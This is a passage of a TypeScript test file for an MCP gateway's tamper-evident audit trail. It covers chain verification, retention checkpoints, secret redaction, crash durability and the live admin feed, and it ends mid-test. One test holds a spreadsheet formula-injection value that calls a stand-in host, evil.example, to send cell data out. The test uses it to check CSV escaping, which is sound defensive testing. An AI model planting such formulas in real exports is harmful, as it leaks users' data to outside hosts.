/**
 * The audit trail end to end: the real binary, SQLite files, SDK clients.
 */
import { Database } from "bun:sqlite";
import { afterAll, describe, expect, test } from "bun:test";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { appendToChain, CHECKPOINT_KEY_PURPOSE, pruneAuditTrail, pruneAuditTrailGradually } from "../src/audit/index.ts";
import { loadSettings } from "../src/config/index.ts";
import { openDataDir } from "../src/runtime/index.ts";
import { openStore, type NewAuditRow, type Store } from "../src/store/index.ts";
import { startHttpUpstream } from "./fixtures/http-upstream.ts";
import { parseExposition, sampleValue } from "./fixtures/prometheus-text.ts";
import { openTerminal } from "./fixtures/terminal.ts";
import { BINARY, cleanEnv, connectMcpClient, DEMO_CONFIG as DEMO, filesIn, REPO_ROOT, runMintgate, startConfiguredGateway, startGateway, tempDir, waitFor } from "./harness.ts";

const ECHO_STDIO = join(REPO_ROOT, "test", "fixtures", "echo-stdio.ts");

/** The i-th of a run of tools/call records 400 days old, past any retention: what the prune tests fill a trail with. */
function oldCall(i: number, fields: Partial<NewAuditRow> = {}): NewAuditRow {
  return {
    at: Date.now() - 400 * 86_400_000 + i, kind: "mcp", person: "old@example.com", userId: null, clientId: null, tokenId: null, ip: null, sessionId: "s", virtualMcp: "v", connector: "c", method: "tools/call",
    exposedName: "t", upstreamName: "t", arguments: "{}", result: null, resultSize: null, outcome: "ok", error: null, durationMs: 1, detail: null, ...fields,
  };
}
/**
 * Appends `count` tools/call records by bulk@example.com, one a millisecond from `start`, in chunks of 10,000: what the
 * export tests fill a trail with (`fields` for their arguments, result and duration).
 */
function appendBulkCalls(store: Store, count: number, start: number, fields: Partial<NewAuditRow> = {}): void {
  for (let first = 0; first < count; first += 10_000) {
    appendToChain(
      store,
      Array.from({ length: Math.min(10_000, count - first) }, (_, i) => ({
        at: start + first + i, kind: "mcp" as const, person: "bulk@example.com", userId: null, clientId: null, tokenId: "t", ip: "127.0.0.1", sessionId: "s", virtualMcp: "v",
        connector: "c", method: "tools/call", exposedName: "search", upstreamName: "search", arguments: "{}", result: null, resultSize: null, outcome: "ok" as const,
        error: null, durationMs: 1, detail: null, ...fields,
      })),
    );
  }
}
/**
 * Blocks until process `pid` has the database open (it holds file locks) and sleeps in SQLite's busy handler,
 * which retries a lock another connection holds: a CLI started beside a held write lock has reached it. Read
 * from /proc, as nothing the CLI writes says so; a CLI slow to start on a loaded machine is waited for (4 s at most).
 */
function waitForLockWaiterSync(pid: number): void {
  // clock_nanosleep or nanosleep, by architecture.
  const sleeping = process.arch === "arm64" ? ["115", "101"] : ["230", "35"];
  const deadline = Date.now() + 4_000;
  let seen = "";
  while (Date.now() < deadline) {
    const holdsLocks = readFileSync("/proc/locks", "utf8").split("\n").some((line) => line.split(/\s+/)[4] === String(pid));
    try {
      seen = `${readFileSync(`/proc/${pid}/syscall`, "utf8").split(" ")[0]} ${readFileSync(`/proc/${pid}/wchan`, "utf8")}, ${holdsLocks ? "holding" : "no"} file locks`;
    } catch (error) {
      seen = String(error);
    }
    if (holdsLocks && (sleeping.includes(seen.split(" ")[0]!) || seen.includes("nanosleep"))) return;
    Bun.sleepSync(5);
  }
  throw new Error(`process ${pid} never waited for the database lock (last seen: ${seen})`);
}

const clients: Client[] = [];
afterAll(async () => {
  await Promise.all(clients.splice(0).map((c) => c.close().catch(() => {})));
});


async function tokenFor(dataDir: string, user: string): Promise<string> {
  const result = await runMintgate(["tokens", "create", "--user", user, "--json", "--data", dataDir]);
  expect(result.code).toBe(0);
  return (JSON.parse(result.stdout) as { token: string }).token;
}

async function client(url: string, token: string): Promise<Client> {
  const c = await connectMcpClient(url, token);
  clients.push(c);
  return c;
}

interface VerifyJson {
  ok: boolean;
  records: number;
  head: { id: number; hash: string } | null;
  anchor?: { id: number; hash: string; status: string };
  broken?: { id: number; reason: string };
}

async function verify(dataDir: string, args: string[] = []): Promise<{ code: number; report: VerifyJson }> {
  const result = await runMintgate(["audit", "verify", "--json", "--data", dataDir, ...args]);
  return { code: result.code, report: JSON.parse(result.stdout) };
}

function mcpRows(dataDir: string, where = "1=1"): { id: number; person: string; method: string; exposed_name: string; outcome: string; arguments: string | null }[] {
  const db = new Database(join(dataDir, "mintgate.db"), { readonly: true });
  try {
    return db.query(`SELECT id, person, method, exposed_name, outcome, arguments FROM audit_records WHERE kind = 'mcp' AND ${where} ORDER BY id`).all() as never;
  } finally {
    db.close();
  }
}

describe("audit trail", () => {
  test("N concurrent calls from several people leave exactly N call records with the right people and outcomes; the chain verifies; editing, deleting or swapping any one row is named by verify", async () => {
    const { dataDir, gateway } = await startConfiguredGateway(DEMO);
    const people = ["ann@example.com", "bob@example.com", "cy@example.com"];
    const sessions = await Promise.all(people.map(async (p) => ({ person: p, client: await client(`${gateway.url}/mcp/demo`, await tokenFor(dataDir, p)) })));
    const PER = 40;
    await Promise.all(
      sessions.flatMap(({ client: c }, k) =>
        Array.from({ length: PER }, (_, i) => (i % 10 === 0 ? c.callTool({ name: "no_such_tool", arguments: {} }).catch(() => undefined) : c.callTool({ name: "add", arguments: { a: i, b: k } }))),
      ),
    );
    await gateway.stop();
    const calls = mcpRows(dataDir, "method = 'tools/call'");
    expect(calls.length).toBe(people.length * PER);
    for (const p of people) {
      const mine = calls.filter((r) => r.person === p);
      expect(mine.length).toBe(PER);
      expect(mine.filter((r) => r.outcome === "ok" && r.exposed_name === "add").length).toBe(PER - PER / 10);
      expect(mine.filter((r) => r.exposed_name === "no_such_tool" && r.outcome !== "ok").length).toBe(PER / 10);
    }
    const good = await verify(dataDir);
    expect(good.code).toBe(0);
    expect(good.report.ok).toBe(true);

    // Each tampering on a copy of the database: verify fails and names the row.
    const db = join(dataDir, "mintgate.db");
    const pick = calls[Math.floor(calls.length / 2)]!.id;
    const tamper = async (sql: string[], expectedId: number) => {
      const copy = join(tempDir("mintgate-tamper"), "data");
      await Bun.$`mkdir -p ${copy} && cp ${join(dataDir, "master.key")} ${join(dataDir, "admin.token")} ${copy}/`.quiet();
      const source = new Database(db);
      source.exec("PRAGMA wal_checkpoint(TRUNCATE)");
      source.close();
      await Bun.$`cp ${db} ${join(copy, "mintgate.db")}`.quiet();
      const edit = new Database(join(copy, "mintgate.db"));
      for (const statement of sql) edit.exec(statement);
      edit.close();
      const result = await verify(copy);
      expect(result.code).toBe(1);
      expect(result.report.broken?.id).toBe(expectedId);
      expect(result.report.broken?.reason).toContain(String(expectedId));
    };
    await tamper([`UPDATE audit_records SET person = 'mallory@example.com' WHERE id = ${pick}`], pick);
    await tamper([`DELETE FROM audit_records WHERE id = ${pick}`], pick);
    const cols = "at, kind, person, user_id, client_id, token_id, ip, session_id, virtual_mcp, connector, method, exposed_name, upstream_name, arguments, result, result_size, outcome, error, duration_ms, detail, prev_hash, hash";
    await tamper(
      [
        `CREATE TEMP TABLE a AS SELECT * FROM audit_records WHERE id = ${pick}`,
        `CREATE TEMP TABLE b AS SELECT * FROM audit_records WHERE id = ${pick + 1}`,
        `DELETE FROM audit_records WHERE id IN (${pick}, ${pick + 1})`,
        `INSERT INTO audit_records (id, ${cols}) SELECT ${pick}, ${cols} FROM b`,
        `INSERT INTO audit_records (id, ${cols}) SELECT ${pick + 1}, ${cols} FROM a`,
      ],
      pick,
    );
    // The last row deleted: the chain's end is gone.
    const lastId = (new Database(db, { readonly: true }).query("SELECT max(id) AS id FROM audit_records").get() as { id: number }).id;
    await tamper([`DELETE FROM audit_records WHERE id = ${lastId}`], lastId);
  });

  test("records deleted from the end stay missing for verify after new records are written (their ids are not reused)", async () => {
    const dir = join(tempDir("mintgate-audit-tail"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    for (let i = 0; i < 4; i++) await tokenFor(dir, `p${i}@example.com`);
    const db = new Database(join(dir, "mintgate.db"));
    const last = (db.query("SELECT max(id) AS id FROM audit_records").get() as { id: number }).id;
    db.exec(`DELETE FROM audit_records WHERE id >= ${last - 1}`);
    db.close();
    // As many new records as were deleted, and more: the chain must not close over the gap.
    for (let i = 0; i < 3; i++) await tokenFor(dir, `q${i}@example.com`);
    const result = await verify(dir);
    expect(result.code).toBe(1);
    expect(result.report.broken?.id).toBe(last - 1);
    expect(result.report.broken?.reason).toBe(`record ${last - 1} is missing (through ${last}): deleted without a retention checkpoint`);
  });

  test("verify prints the chain's head; --anchor with it catches the newest records deleted with the id counter set back, which the chain alone cannot show", async () => {
    const dir = join(tempDir("mintgate-audit-anchor"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const store = openStore(join(dir, "mintgate.db"));
    const sealed = appendToChain(store, Array.from({ length: 6 }, (_, i) => oldCall(i)));
    store.close();
    const newest = sealed[sealed.length - 1]!;
    const first = await verify(dir);
    expect(first.report.head).toEqual({ id: newest.id, hash: newest.hash });
    const anchor = `${newest.id}:${newest.hash}`;
    const [intact, text, ...malformed] = await Promise.all([
      verify(dir, ["--anchor", anchor]),
      runMintgate(["audit", "verify", "--anchor", anchor.toUpperCase(), "--data", dir]),
      ...["12", `x:${newest.hash}`, `${newest.id}:${newest.hash.slice(1)}`].map((bad) => runMintgate(["audit", "verify", "--anchor", bad, "--data", dir])),
    ]);
    expect([intact.code, intact.report.anchor]).toEqual([0, { id: newest.id, hash: newest.hash, status: "present" }]);
    expect(text.code).toBe(0);
    expect(text.stdout).toContain(`Anchor: record ${newest.id} is there with its hash.`);
    expect(text.stdout).toContain(`Head (keep it elsewhere, check it later with --anchor): ${anchor}\n`);
    for (const bad of malformed) {
      expect([bad.code, bad.stdout]).toEqual([2, ""]);
      expect(bad.stderr).toContain("--anchor must be ID:HASH, a record's id and its 64-hex-digit hash");
    }

    // The last two records deleted and the id counter set back to match: the shorter chain holds.
    const db = new Database(join(dir, "mintgate.db"));
    db.exec(`DELETE FROM audit_records WHERE id > ${newest.id - 2}`);
    db.exec(`UPDATE sqlite_sequence SET seq = ${newest.id - 2} WHERE name = 'audit_records'`);
    db.close();
    const [alone, anchored] = await Promise.all([verify(dir), verify(dir, ["--anchor", anchor])]);
    expect([alone.code, alone.report.head?.id]).toEqual([0, newest.id - 2]);
    expect([anchored.code, anchored.report.ok, anchored.report.head, anchored.report.broken?.id]).toEqual([1, false, null, newest.id]);
    expect(anchored.report.broken?.reason).toStartWith(`record ${newest.id}, the anchor, is gone and no retention checkpoint covers it: records were deleted from the end of the chain, which now ends at record ${newest.id - 2};`);

    // New records take the freed ids: one stands where the anchor was, with another hash (as after an edit re-hashed onward).
    const reopened = openStore(join(dir, "mintgate.db"));
    appendToChain(reopened, [oldCall(10), oldCall(11)]);
    reopened.close();
    const replaced = await verify(dir, ["--anchor", anchor]);
    expect([replaced.code, replaced.report.broken?.id]).toEqual([1, newest.id]);
    expect(replaced.report.broken?.reason).toStartWith(`record ${newest.id} no longer has the anchor's hash: the chain was rewritten up to it`);
  });

  test("a secret used in a connector header and env never appears in an audit row, the export, the database, its WAL or the log", async () => {
    const headerSecret = `hdr-${crypto.randomUUID()}`;
    const envSecret = `env-${crypto.randomUUID()}`;
    const upstream = startHttpUpstream(headerSecret);
    try {
      const dir = join(tempDir("mintgate-audit-secret"), "data");
      expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
      expect((await runMintgate(["secrets", "set", "upstream-token", "--data", dir], { stdin: headerSecret })).code).toBe(0);
      expect((await runMintgate(["secrets", "set", "echo-key", "--data", dir], { stdin: envSecret })).code).toBe(0);
      const yaml = `connectors:
  - name: up
    kind: http
    url: ${upstream.url}
    headers: { Authorization: "Bearer \${secret:upstream-token}" }
  - name: echo
    kind: stdio
    command: ${process.execPath}
    args: [${ECHO_STDIO}]
    env: { ECHO_KEY: "\${secret:echo-key}" }
virtualMcps:
  - slug: s
    name: S
    access: { everyone: true }
    connectors: [{ connector: up, prefix: up }, { connector: echo, prefix: echo }]
`;
      const file = join(dir, "..", "m.yaml");
      await Bun.write(file, yaml);
      const applied = await runMintgate(["apply", "-f", file, "--data", dir]);
      expect(applied.stderr).toBe("");
      const token = await tokenFor(dir, "sec@example.com");
      const gateway = await startGateway({ dataDir: dir });
      const c = await client(`${gateway.url}/mcp/s`, token);
      await waitFor("both connectors", async () => (await c.listTools()).tools.length >= 2);
      // The person sends the secrets themselves, in a value and under a secret-looking key.
      const shouted = await c.callTool({ name: "up__shout", arguments: { text: `token is ${headerSecret}` } });
      expect(JSON.stringify(shouted)).toContain(headerSecret.toUpperCase());
      await c.callTool({ name: "echo__echo", arguments: { text: `key ${envSecret} and ${headerSecret}`, password: "hunter2-not-stored" } });
      // A tool error is stored cut to 500 characters: a secret straddling the cut is replaced before the cut, not half kept.
      const failed = await c.callTool({ name: "echo__echo", arguments: { text: `${"x".repeat(495)}${envSecret}`, fail: true } });
      expect(failed.isError).toBe(true);
      // A resource URI is the upstream's text and may carry its key (as a listed URI would): its record names the secret, not its value.
      await c.readResource({ uri: `echo+doc://report?key=${envSecret}` }).catch(() => undefined);
      await c.close();
      const exported = await runMintgate(["audit", "export", "--format", "jsonl", "--data", dir]);
      expect(exported.code).toBe(0);
      const rows = exported.stdout.trim().split("\n").map((l) => JSON.parse(l) as { exposedName: string | null; arguments: string | null; result: string | null; error: string | null });
      const echoRow = rows.find((r) => r.exposedName === "echo__echo")!;
      expect(echoRow.arguments).toContain("[secret:echo-key]");
      expect(echoRow.arguments).toContain("[secret:upstream-token]");
      expect(echoRow.arguments).toContain('"password":"[redacted]"');
      const failedRow = rows.find((r) => r.exposedName === "echo__echo" && r.error !== null)!;
      expect(failedRow.error).toBe(`${"x".repeat(495)}${"[secret:echo-key]".slice(0, 5)}`);
      expect(rows.find((r) => r.exposedName?.startsWith("echo+doc://report"))!.exposedName).toBe("echo+doc://report?key=[secret:echo-key]");
      const csv = await runMintgate(["audit", "export", "--format", "csv", "--data", dir]);
      const adminCalls = await (await fetch(`${gateway.url}/admin/api/audit?limit=1000`, { headers: { authorization: `Bearer ${gateway.adminToken()}` } })).text();
      const walBefore = filesIn(dir).map((f) => readFileSync(join(dir, f)));
      await gateway.stop();
      const files = filesIn(dir).map((f) => readFileSync(join(dir, f)));
      for (const secret of [headerSecret, envSecret, "hunter2-not-stored"]) {
        for (const text of [exported.stdout, csv.stdout, adminCalls, gateway.output()]) expect(text).not.toContain(secret);
        for (const bytes of [...walBefore, ...files]) expect(bytes.includes(Buffer.from(secret))).toBe(false);
      }
    } finally {
      upstream.stop?.();
    }
  });

  test("the gateway killed with SIGKILL under sustained load: every answered call has its record and the chain verifies", async () => {
    const { dataDir, gateway } = await startConfiguredGateway(DEMO);
    const token = await tokenFor(dataDir, "load@example.com");
    const workers = await Promise.all(Array.from({ length: 8 }, () => client(`${gateway.url}/mcp/demo`, token)));
    const answered: string[] = [];
    let stop = false;
    const loops = workers.map(async (c, w) => {
      for (let i = 0; !stop; i++) {
        const text = `w${w}-${i}`;
        try {
          await c.callTool({ name: "echo", arguments: { text } });
          answered.push(text);
        } catch {
          return;
        }
      }
    });
    await waitFor("sustained load", () => answered.length > 300);
    gateway.signal("SIGKILL");
    await gateway.exited;
    stop = true;
    await Promise.allSettled(loops);
    const recorded = new Set(mcpRows(dataDir, "method = 'tools/call'").map((r) => (JSON.parse(r.arguments!) as { text: string }).text));
    expect(answered.length).toBeGreaterThan(300);
    for (const text of answered) expect(recorded.has(text)).toBe(true);
    const restarted = await startGateway({ dataDir });
    await restarted.stop();
    expect((await verify(dataDir)).report.ok).toBe(true);
  });

  test("retention deletes old ranges and leaves a signed checkpoint: the rest still verifies; a forged checkpoint does not", async () => {
    const dir = join(tempDir("mintgate-audit-retention"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const store = openStore(join(dir, "mintgate.db"));
    const day = 86_400_000;
    const row = (at: number, i: number): NewAuditRow => ({
      at, kind: "mcp", person: "old@example.com", userId: null, clientId: null, tokenId: null, ip: null, sessionId: null, virtualMcp: "v", connector: "c", method: "tools/call",
      exposedName: `t${i}`, upstreamName: "t", arguments: "{}", result: null, resultSize: null, outcome: "ok", error: null, durationMs: 1.5, detail: null,
    });
    const old = appendToChain(store, Array.from({ length: 50 }, (_, i) => row(Date.now() - 40 * day + i, i)));
    appendToChain(store, Array.from({ length: 10 }, (_, i) => row(Date.now() - day + i, 100 + i)));
    store.close();
    const pruned = await runMintgate(["audit", "prune", "--retention-days", "30", "--json", "--data", dir]);
    expect(pruned.code).toBe(0);
    const report = JSON.parse(pruned.stdout) as { deleted: number; throughId: number };
    expect(report.deleted).toBeGreaterThanOrEqual(50);
    const verified = await verify(dir);
    expect(verified.report.ok).toBe(true);
    // One of a thing reads in the singular: not "1 retention checkpoint(s)".
    expect((await runMintgate(["audit", "verify", "--data", dir])).stdout).toMatch(/^The audit trail is intact: \d+ records \(\d+–\d+\), 1 retention checkpoint\.\n/);
    // Anchors kept from before the prune: deleted by retention is fine (the checkpoint covers them), unless the hash at the checkpoint differs.
    const last = old[old.length - 1]!;
    expect(report.throughId).toBe(last.id);
    const [covered, atCheckpoint, forgedAtCheckpoint] = await Promise.all([
      verify(dir, ["--anchor", `${old[10]!.id}:${old[10]!.hash}`]),
      verify(dir, ["--anchor", `${last.id}:${last.hash}`]),
      verify(dir, ["--anchor", `${last.id}:${old[10]!.hash}`]),
    ]);
    expect([covered.code, covered.report.anchor?.status, atCheckpoint.code, atCheckpoint.report.anchor?.status]).toEqual([0, "pruned", 0, "pruned"]);
    expect([forgedAtCheckpoint.code, forgedAtCheckpoint.report.broken?.id]).toEqual([1, last.id]);
    const again = await runMintgate(["audit", "search", "--kind", "admin", "--json", "--data", dir]);
    expect((JSON.parse(again.stdout) as { method: string }[]).some((r) => r.method === "audit.prune")).toBe(true);
    const db = new Database(join(dir, "mintgate.db"));
    db.exec("UPDATE audit_checkpoints SET deleted = deleted + 1");
    db.close();
    const forged = await verify(dir);
    expect(forged.code).toBe(1);
    expect(forged.report.broken?.reason).toContain("signature");
  });

  test("a master key rotated by another process between a prune's chunks: the rest of the prune signs with the new key and the chain verifies", async () => {
    const dir = join(tempDir("mintgate-audit-prune-rotate"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const store = openStore(join(dir, "mintgate.db"));
    // Three chunks of the prune (5,000 records each).
    appendToChain(store, Array.from({ length: 12_000 }, (_, i) => oldCall(i)));
    store.close();
    // The gateway's prune, in this process; `mintgate secrets rotate-key` runs between its first and second chunk.
    const gateway = openDataDir(loadSettings({ data: dir }, {}), { initialise: false });
    let between = 0;
    const report = await pruneAuditTrailGradually(gateway.store, {
      retentionDays: 30,
      key: () => gateway.secrets.derivedKey(CHECKPOINT_KEY_PURPOSE),
      actor: "gateway (retention)",
      stopped: () => {
        if (++between === 2) expect(Bun.spawnSync([BINARY, "secrets", "rotate-key", "--data", dir], { env: cleanEnv(), stdout: "ignore", stderr: "ignore" }).exitCode).toBe(0);
        return false;
      },
    });
    gateway.close();
    expect([report.deleted, between]).toEqual([12_000, 3]);
    const verified = await verify(dir);
    expect(verified.report).toMatchObject({ ok: true, checkpoints: 1 });
  });

  test("`audit prune` run beside the gateway's own prune: whichever deletes a range first, the other stops there, and the chain verifies", async () => {
    const dir = join(tempDir("mintgate-audit-prune-twice"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const gateway = openDataDir(loadSettings({ data: dir }, {}), { initialise: false });
    appendToChain(gateway.store, Array.from({ length: 12_000 }, (_, i) => oldCall(i)));
    // The gateway's prune holds the write lock while `mintgate audit prune` has found the chain's start and waits for the lock.
    gateway.store.audit.sqlite.exec("BEGIN IMMEDIATE");
    const child = Bun.spawn([BINARY, "audit", "prune", "--retention-days", "30", "--json", "--data", dir], { env: cleanEnv(), stdin: "ignore", stdout: "pipe", stderr: "pipe" });
    const cli = Promise.all([new Response(child.stdout).text(), new Response(child.stderr).text(), child.exited]).then(([stdout, stderr, code]) => ({ stdout, stderr, code }));
    // Waited for without yielding: the store's checkpoint timer must not run inside the open transaction (SQLITE_LOCKED).
    waitForLockWaiterSync(child.pid);
    const key = () => gateway.secrets.derivedKey(CHECKPOINT_KEY_PURPOSE);
    expect(pruneAuditTrail(gateway.store, { retentionDays: 30, key, actor: "gateway (retention)" }).deleted).toBe(12_000);
    gateway.store.audit.sqlite.exec("COMMIT");
    gateway.close();
    const pruned = await cli;
    expect([pruned.code, pruned.stderr]).toEqual([0, ""]);
    expect((JSON.parse(pruned.stdout) as { deleted: number }).deleted).toBe(0);
    expect((await verify(dir)).report).toMatchObject({ ok: true, checkpoints: 1 });
  });

  test("`audit prune` on a terminal says how many records it has deleted so far; piped, nothing goes to standard error", async () => {
    const dir = join(tempDir("mintgate-audit-prune-progress"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const store = openStore(join(dir, "mintgate.db"));
    // Three chunks of the prune: a progress line after each.
    appendToChain(store, Array.from({ length: 12_000 }, (_, i) => oldCall(i)));
    store.close();
    const screen = openTerminal({ command: `${BINARY} audit prune --retention-days 30 --data ${dir}; sleep 30`, width: 160, height: 10 });
    try {
      const shown = await screen.waitFor(/Deleted 12000 records/);
      expect(shown).toContain("deleted 12000 records");
    } finally {
      screen.kill();
    }
    const piped = await runMintgate(["audit", "prune", "--retention-days", "30", "--data", dir]);
    expect([piped.code, piped.stderr]).toEqual([0, ""]);
    expect(piped.stdout).toStartWith("Nothing to delete");
  });

  test("the gateway's own retention prune of a large trail goes on answering requests between chunks", async () => {
    const dir = join(tempDir("mintgate-audit-prune-load"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const store = openStore(join(dir, "mintgate.db"));
    const row = (i: number) => oldCall(i, { exposedName: `t${i % 50}`, arguments: '{"a":1}', durationMs: 1.5 });
    // Deleting this many in one go holds the event loop for about half a second or more.
    const RECORDS = 400_000;
    for (let b = 0; b < RECORDS / 5000; b++) appendToChain(store, Array.from({ length: 5000 }, (_, i) => row(b * 5000 + i)));
    store.close();
    const gateway = await startGateway({ dataDir: dir });
    // The first prune runs 3 s after start: poll /healthz through it.
    let slowest = 0;
    while (!gateway.output().includes("audit retention: deleted")) {
      const started = performance.now();
      expect((await fetch(`${gateway.url}/healthz`)).status).toBe(200);
      slowest = Math.max(slowest, performance.now() - started);
      await Bun.sleep(10);
    }
    await gateway.stop();
    expect(gateway.output()).toContain(`deleted=${RECORDS} `);
    expect(slowest).toBeLessThan(250);
    expect((await verify(dir)).report.ok).toBe(true);
  }, 90_000);

  test("the live feed delivers a call record as it commits; search and export work through the admin API", async () => {
    const { dataDir, gateway, token } = await startConfiguredGateway(DEMO);
    const headers = { authorization: `Bearer ${gateway.adminToken()}` };
    expect((await fetch(`${gateway.url}/admin/api/events`)).status).toBe(401);
    // HEAD answers at once with the headers (it opened a stream no one read, and never answered).
    const head = await fetch(`${gateway.url}/admin/api/events`, { method: "HEAD", headers, signal: AbortSignal.timeout(2000) });
    expect([head.status, head.headers.get("content-type")]).toEqual([200, "text/event-stream; charset=utf-8"]);
    const response = await fetch(`${gateway.url}/admin/api/events`, { headers });
    expect(response.headers.get("content-type")).toContain("text/event-stream");
    const reader = response.body!.getReader();
    const c = await client(`${gateway.url}/mcp/demo`, token);
    await c.callTool({ name: "add", arguments: { a: 1, b: 41 } });
    let text = "";
    const decoder = new TextDecoder();
    const deadline = Date.now() + 5000;
    while (!text.includes('"exposedName":"add"') && Date.now() < deadline) {
      const { value, done } = await reader.read();
      if (done) break;
      text += decoder.decode(value);
    }
    expect(text).toContain("event: record");
    expect(text).toContain('"exposedName":"add"');
    await reader.cancel();
    const found = (await (await fetch(`${gateway.url}/admin/api/audit?tool=add&kind=mcp`, { headers })).json()) as { exposedName: string; outcome: string; durationMs: number }[];
    expect(found[0]).toMatchObject({ exposedName: "add", outcome: "ok" });
    // Durations are kept to the microsecond, not as a float's noise (2.1206490000004123) in the trail, exports and stats.
    expect(String(found[0]!.durationMs)).toMatch(/^\d+(\.\d{1,3})?$/);
    // A person can put text in the trail (here a tool name): a formula must not run when the CSV is opened in a spreadsheet.
    await c.callTool({ name: '=HYPERLINK("http://evil.example/?"&A1,"click")', arguments: {} });
    const csv = await (await fetch(`${gateway.url}/admin/api/audit/export?format=csv`, { headers })).text();
    expect(csv.split("\n")[0]).toStartWith("id,at,kind,person");
    expect(csv).toContain(",add,");
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(csv).not.toContain(',"=HYPERLINK');
    // Admin changes made through the API and the CLI are on the record too.
    expect((await fetch(`${gateway.url}/admin/api/clients`, { method: "POST", headers: { ...headers, "content-type": "application/json" }, body: JSON.stringify({ name: "x", redirectUris: ["https://x.example.com/cb"] }) })).status).toBe(201);
    // A self-recording change (its service writes the record) as well as the generic path.
    expect((await fetch(`${gateway.url}/admin/api/secrets/feed-test`, { method: "PUT", headers: { ...headers, "content-type": "application/json" }, body: JSON.stringify({ value: "feed-test-value" }) })).status).toBe(200);
    const admin = (await (await fetch(`${gateway.url}/admin/api/audit?kind=admin`, { headers })).json()) as { method: string; person: string; ip: string | null }[];
    // Each says where it came from: the admin API's client, none for the CLI (in-process).
    expect(admin.find((r) => r.method === "POST /clients")).toMatchObject({ person: expect.stringMatching(/^admin token /), ip: "127.0.0.1" });
    expect(admin.find((r) => r.method === "secret.create")).toMatchObject({ person: expect.stringMatching(/^admin token /), ip: "127.0.0.1" });
    expect(admin.find((r) => r.method === "connector.create")).toMatchObject({ person: expect.stringMatching(/^cli:/), ip: null });
    expect(admin.some((r) => r.method === "tokens.create")).toBe(true);
    // A token (or client) made by the CLI is named by its id, as its later revocation is: an auditor can link the two.
    const made = JSON.parse((await runMintgate(["tokens", "create", "--user", "eve@example.com", "--json", "--data", dataDir])).stdout) as { id: string };
    expect((await runMintgate(["tokens", "revoke", made.id, "--data", dataDir])).code).toBe(0);
    const cliClient = JSON.parse((await runMintgate(["clients", "add", "--name", "cli-made", "--redirect-uri", "https://cli.example.com/cb", "--json", "--data", dataDir])).stdout) as { clientId: string };
    const named = (await (await fetch(`${gateway.url}/admin/api/audit?kind=admin`, { headers })).json()) as { method: string; exposedName: string | null }[];
    expect(named.filter((r) => r.exposedName === made.id).map((r) => r.method).sort()).toEqual(["tokens.create", "tokens.revoke"]);
    expect(named.find((r) => r.method === "clients.add")?.exposedName).toBe(cliClient.clientId);
    // The gateway's verify gives the head to keep, and checks one kept earlier (?anchor=ID:HASH).
    const chainHead = ((await (await fetch(`${gateway.url}/admin/api/audit/verify`, { headers })).json()) as VerifyJson).head!;
    expect(chainHead.id).toBeGreaterThan(0);
    const anchored = (await (await fetch(`${gateway.url}/admin/api/audit/verify?anchor=${chainHead.id}:${chainHead.hash}`, { headers })).json()) as VerifyJson;
    expect(anchored).toMatchObject({ ok: true, anchor: { ...chainHead, status: "present" } });
    const malformed = await fetch(`${gateway.url}/admin/api/audit/verify?anchor=${chainHead.id}`, { headers });
    expect(malformed.status).toBe(400);
    expect(await malformed.text()).toContain("anchor must be ID:HASH");
    await gateway.stop();
    expect((await verify(dataDir)).report.ok).toBe(true);
  });

  test("the live feed ends when the admin token that opened it is revoked: a new `init` token cuts it, not just the next request", async () => {
    const { dataDir, gateway, token } = await startConfiguredGateway(DEMO);
    const response = await fetch(`${gateway.url}/admin/api/events`, { headers: { authorization: `Bearer ${gateway.adminToken()}` } });
    expect(response.status).toBe(200);
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    expect(decoder.decode((await reader.read()).value)).toContain(": connected");
    rmSync(join(dataDir, "admin.token"));
    expect((await runMintgate(["init", "--data", dataDir])).code).toBe(0);
    const c = await client(`${gateway.url}/mcp/demo`, token);
    await c.callTool({ name: "add", arguments: { a: 20, b: 22 } });
    let text = "";
    let ended = false;
    const deadline = Date.now() + 5000;
    while (!ended && Date.now() < deadline) {
      const next = await Promise.race([reader.read(), Bun.sleep(deadline - Date.now()).then(() => ({ done: false, value: undefined }))]);
      if (next.done) ended = true;
      else if (next.value) text += decoder.decode(next.value);
    }
    expect(text).not.toContain('"exposedName":"add"');
    expect(ended).toBe(true);
    await gateway.stop();
  });

  test("the live feed resumes after Last-Event-ID: a reconnecting reader gets what committed meanwhile, with no gap and no duplicate", async () => {
    const { dataDir, gateway, token } = await startConfiguredGateway(DEMO);
    const headers = { authorization: `Bearer ${gateway.adminToken()}` };
    const c = await client(`${gateway.url}/mcp/demo`, token);
    /**
     * Opens the feed and resolves once the gateway has subscribed it (its ": connected" comment is read), to a promise
     * (`finished`) of the SSE `record` ids (and a `dropped` count) read until `until` holds. A call made after that is live for it.
     */
    const readFeed = async (lastEventId: string | undefined, until: (ids: number[]) => boolean) => {
      const response = await fetch(`${gateway.url}/admin/api/events`, { headers: lastEventId === undefined ? headers : { ...headers, "last-event-id": lastEventId } });
      const reader = response.body!.getReader();
      const decoder = new TextDecoder();
      let text = "";
      const ids = () => [...text.matchAll(/^id: (\d+)$/gm)].map((m) => Number(m[1]));
      const deadline = Date.now() + 10_000;
      let ended = false;
      const readMore = async () => {
        const { value, done } = await reader.read();
        if (done) ended = true;
        else text += decoder.decode(value, { stream: true });
      };
      while (!text.includes(": connected\n\n") && !ended) await readMore();
      // Wrapped: an async function returning the promise itself would wait for it.
      const finished = (async () => {
        while (!until(ids()) && !ended && Date.now() < deadline) await readMore();
        await reader.cancel();
        const dropped = /event: dropped\ndata: (.*)\n/.exec(text);
        return { ids: ids(), dropped: dropped ? (JSON.parse(dropped[1]!) as { dropped: number }).dropped : 0 };
      })();
      return { finished };
    };
    await c.callTool({ name: "add", arguments: { a: 1, b: 1 } });
    // Without Last-Event-ID nothing before the connection is replayed: the first record is the next call.
    // Subscribed before the call: a fixed pause here lost the race to a slow connect on a loaded machine.
